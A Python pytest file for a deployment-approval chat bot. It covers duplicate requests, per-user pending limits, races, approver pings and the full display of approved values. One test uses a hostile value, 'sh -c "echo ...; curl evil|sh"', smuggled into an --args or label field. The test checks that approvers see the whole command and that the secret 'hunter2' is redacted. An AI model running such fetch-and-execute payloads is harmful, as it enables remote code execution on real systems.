"""How often people are asked, for how much at once, and that they can read what they are asked."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest

from bot.domain.approval import Approval, ApprovalNote, approval_id
from bot.domain.change import ActionKind
from bot.domain.plan import FieldChange
from bot.domain.policy import Members
from bot.jobs import JobName
from bot.ports import ConflictError, Put, Transaction
from bot.rendering.guard import guard
from bot.rendering.voice import BlockKitVoice
from bot.usecases.pending import admit
from bot.usecases.speak import no_fault, parent_id
from tests.builders import NOW
from tests.fakes.store import FakeRecordStore
from tests.unit.domain.approval.samples import an_approval
from tests.unit.usecases.approving import (
    CAT,
    DAN,
    RULE,
    SRE,
    Approving,
    a_policy,
    asking,
    changed,
)
from tests.unit.usecases.bed import ANN, BOB, KilledError

UPDATE = "update --image reg/httpd:v2 web"


def test_the_very_same_is_asked_for_once() -> None:
    bed = asking()
    name = bed.asked()
    for who in (ANN, BOB):
        assert f"{name} asks for the very same already" in bed.says(UPDATE, who)
    bed.clicks(ActionKind.CANCEL_REQUEST, name, ANN)
    assert bed.asked() != name
    first = bed.asked("rm web")
    assert f"{first} asks for the very same already" in bed.says("rm web", BOB)


def test_what_has_expired_and_is_not_noted_is_in_nobodys_way() -> None:
    bed = asking()
    name = bed.asked()
    bed.clock.advance(timedelta(minutes=31).total_seconds())
    assert bed.asked() != name


def test_one_person_has_ten_requests_at_most_and_others_have_theirs() -> None:
    bed = asking()
    for number in range(10):
        bed.asked(f"scale web={number + 10}")
    assert "You have 10 requests pending" in bed.says("scale web=20", ANN)
    assert "You have 10 requests pending" in bed.says("rm web", ANN)
    assert len(bed.store.open_ids("default", Approval)) == 10
    assert bed.asked("scale web=20", BOB)


def racing(bed: Approving, *others: str) -> None:
    """Let the jobs of these run between the next request's look at the others and its writing."""

    def fault(point: str) -> None:
        if point == "ask.before_commit":
            bed.fault = no_fault
            for made in others:
                bed.wired().runner(job_name(made)).run(made)

    bed.fault = fault


def job_name(made: str) -> JobName:
    return JobName.PLAN if made.startswith("r-") else JobName.CHANGE


def test_of_two_requests_for_the_same_at_once_one_stands() -> None:
    for line in (UPDATE, "rm web"):
        bed = asking()
        first, second = bed.type(line, ANN), bed.type(line, BOB)
        racing(bed, second)
        bed.work()
        assert bed.store.open_ids("default", Approval) == [approval_id(second)]
        assert f"{approval_id(second)} asks for the very same already" in bed.private(first)


def test_of_two_requests_for_the_last_place_at_once_one_gets_it() -> None:
    bed = asking()
    for number in range(9):
        bed.asked(f"scale web={number + 10}")
    first, second = bed.type("scale web=20"), bed.type("rm web")
    racing(bed, second)
    bed.work()
    assert "You have 10 requests pending" in bed.private(first)
    assert bed.approval(approval_id(second)).state.value == "pending"
    assert len(bed.store.open_ids("default", Approval)) == 10


def test_of_two_requests_at_once_one_calls_the_people() -> None:
    bed = asking()
    first, second = bed.type("scale web=20", ANN), bed.type("scale web=21", BOB)
    racing(bed, second)
    bed.work()
    assert bed.approval(approval_id(second)).called_in == ""
    assert bed.approval(approval_id(first)).called_in == approval_id(second)


def test_a_kill_between_the_look_and_the_writing_takes_no_place() -> None:
    bed = asking()
    for number in range(9):
        bed.asked(f"scale web={number + 10}")
    made = bed.type("scale web=20")

    def kill(point: str) -> None:
        if point == "ask.before_commit":
            raise KilledError(point)

    bed.fault = kill
    with pytest.raises(KilledError):
        bed.wired().plan.run(made)
    bed.fault = no_fault
    assert bed.store.asked_count("default") == len(bed.store.open_ids("default", Approval)) == 9
    bed.work()
    assert bed.approval(approval_id(made)).state.value == "pending"


def test_who_never_gets_a_turn_is_not_let_in() -> None:
    class Busy(FakeRecordStore):
        """Others are let in whenever somebody has looked."""

        def commit(self, transaction: Transaction) -> None:
            name = f"p-{self.asked_count('default')}"
            by = replace(an_approval().request, by=BOB)
            other = an_approval(id=name, request=by, fingerprint="other")
            super().commit(Transaction(cluster="default", puts=(Put(record=other, rev=0),)))
            super().commit(transaction)

    busy = Busy()
    with pytest.raises(ConflictError) as caught:
        admit(
            busy,
            an_approval(),
            lambda new: Transaction(cluster=new.cluster, puts=(Put(record=new, rev=0),)),
        )
    assert caught.value.guard == "asked"
    assert busy.get(Approval, an_approval().id) is None


def test_the_same_approvers_are_called_once_in_a_while() -> None:
    bed = asking()
    first = bed.asked("scale web=10")
    assert SRE in bed.request_of(first).text
    bed.clicks(ActionKind.CANCEL_REQUEST, first, ANN)
    quiet = [bed.asked(f"scale web={number}") for number in (11, 12)]
    called = [m for m in bed.slack.messages if f"<!subteam^{SRE}>" in m.content.text]
    assert called == []
    for name in quiet:
        told = bed.request_of(name).text
        assert f"of those whom `{first}` has called" in told
        assert f": `{SRE}`, `U1ANN`, `{CAT.user}`, `{DAN.user}`" in told  # who may, and no ping
        assert f"<@{CAT.user}>" not in told
    changed(bed, approvers=Members(users=frozenset({DAN.user})))
    assert f"<@{DAN.user}>" in bed.request_of(bed.asked("scale web=13")).text
    changed(bed)
    bed.clock.advance(timedelta(minutes=5).total_seconds())
    assert SRE in bed.request_of(bed.asked("scale web=14")).text


@pytest.mark.parametrize("end", ["approved", "rejected", "expired"])
def test_who_was_called_for_what_is_over_is_called_again(end: str) -> None:
    rule = replace(RULE, expires=timedelta(minutes=2), remind=None)
    bed = asking(rule, ["create --name web2 --replicas 1 reg/httpd:v1"])
    first = bed.asked("scale web=10")
    if end == "approved":
        bed.votes(first, CAT, DAN)
    elif end == "rejected":
        bed.says(f"reject {first} no", CAT)
    else:
        bed.clock.advance(timedelta(minutes=3).total_seconds())
        bed.tick()
    assert bed.approval(first).state.value == end
    assert f"<!subteam^{SRE}>" in bed.request_of(bed.asked("scale web2=2", BOB)).text


def test_who_counts_in_another_environment_besides_is_somebody_else() -> None:
    """Of a change between environments all the lists count: of others nobody was called."""
    store = FakeRecordStore()
    asked = replace(an_approval(), asked_at=NOW)
    dba = (Members(groups=frozenset({"S0DBA"})),)
    for number, also in enumerate(((), dba, dba)):
        new = replace(asked, id=f"p-{number}", fingerprint=str(number))
        new = replace(new, rule=replace(new.rule, also=also))
        admit(store, new, lambda it: Transaction(cluster=it.cluster, puts=(Put(record=it, rev=0),)))
    kept = store.get_many(Approval, ["p-0", "p-1", "p-2"])
    assert [each.value.called_in for each in kept] == ["", "", "p-1"]


@pytest.mark.parametrize("pad", [20, 320, 3_300])
@pytest.mark.parametrize("flag", ["--args", "--label-add"])
def test_what_people_say_yes_to_can_be_read_in_full(pad: int, flag: str) -> None:
    bed = asking()
    value = f"'sh -c \"echo {'A' * pad}; curl evil|sh\"'"
    typed = f"x={value}" if flag == "--label-add" else value
    name = bed.asked(f"update --env-add KEY=hunter2 {flag} {typed} web")
    bed.tick()
    (top,) = bed.slack.shown(parent_id(name))
    thread = [m.content for m in bed.slack.messages if m.thread_ts == top.ts]
    thread += [content for where, content in bed.slack.files if where.thread_ts == top.ts]
    whole = "A" * pad + "; curl evil|sh"
    shown = [guard(content) for content in (top.content, *thread)]
    drawn = [str(each.blocks) + (each.file_text or "") for each in shown]
    assert sum(whole in each for each in drawn) > 0
    assert len(thread) == (pad > 100)
    assert ("thread has it in full" in drawn[0]) == (pad > 100)
    assert not [each for each in drawn if "hunter2" in each]


def test_a_value_of_several_lines_is_shown_with_its_ends_of_line() -> None:
    many = an_approval(changes=(FieldChange(path="args", old=None, new="a\nb"),))
    shown = BlockKitVoice(open_policy=False).approval_note(many, ApprovalNote.DETAILS)
    assert "+ args: a\\nb" in shown.text


@pytest.mark.parametrize(
    "line",
    [
        "update --no-resolve-image --image reg/httpd:v2 web",
        "update --no-resolve-image --image reg/httpd:v2 --dry-run web",
        "create --no-resolve-image --name web2 reg/httpd:v2",
    ],
)
def test_nobody_is_asked_about_a_tag_that_may_move(line: str) -> None:
    bed = asking()
    told = bed.says(line, ANN)
    assert "`reg/httpd:v2` is a tag" in told
    assert "Leave --no-resolve-image out" in told
    assert not bed.store.open_ids("default", Approval)


def test_a_digest_may_be_approved_unresolved_and_a_tag_goes_where_nobody_is_asked() -> None:
    bed = asking()
    line = "update --no-resolve-image --image reg/httpd:v2"
    bed.asked(f"{line}@sha256:{'ab' * 32} web")
    bed.policies.policy = a_policy(replace(RULE, verbs=frozenset()))
    assert bed.done(f"{line} web").state.value == "completed"
